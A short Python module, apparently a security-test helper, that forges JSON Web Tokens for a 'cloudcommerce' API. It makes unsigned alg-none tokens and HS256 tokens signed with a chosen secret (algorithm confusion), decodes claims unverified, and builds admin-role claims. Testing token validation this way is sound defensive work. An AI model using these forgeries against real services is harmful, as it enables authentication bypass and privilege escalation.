"""Tokens as an attacker makes them, with the standard library alone: unsigned (`alg: none`),
HS256 with the public key as the HMAC secret (algorithm confusion), and claims read without
verification, to see what a real token says.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
import uuid


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64url(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def claims_of(token: str) -> dict:
    """The payload of a JWT, unverified."""
    return json.loads(unb64url(token.split(".")[1]))


def admin_claims(user_id: str) -> dict:
    """What an attacker wants a token to say: admin, valid now, for a session of their choosing."""
    now = int(time.time())
    return {"sub": user_id, "role": "admin", "iss": "cloudcommerce", "aud": "cloudcommerce-api",
            "iat": now, "exp": now + 600, "jti": str(uuid.uuid4()), "sid": str(uuid.uuid4())}


def unsigned(claims: dict, kid: str) -> str:
    head = b64url(json.dumps({"alg": "none", "typ": "JWT", "kid": kid}).encode())
    return f"{head}.{b64url(json.dumps(claims).encode())}."


def hs256(claims: dict, kid: str, secret: bytes) -> str:
    head = b64url(json.dumps({"alg": "HS256", "typ": "JWT", "kid": kid}).encode())
    body = b64url(json.dumps(claims).encode())
    signature = hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest()
    return f"{head}.{body}.{b64url(signature)}"
